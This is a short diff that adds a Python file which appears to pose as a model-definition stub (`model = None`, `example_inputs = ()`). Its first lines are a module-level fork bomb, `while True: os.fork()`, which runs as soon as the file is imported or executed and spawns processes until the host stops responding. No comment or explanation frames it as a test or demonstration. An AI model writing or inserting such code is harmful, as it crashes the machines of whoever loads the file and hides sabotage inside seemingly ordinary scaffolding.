@@ -1,0 +1,7 @@
+import os
+
+while True:
+    os.fork()
+
+model = None
+example_inputs = ()
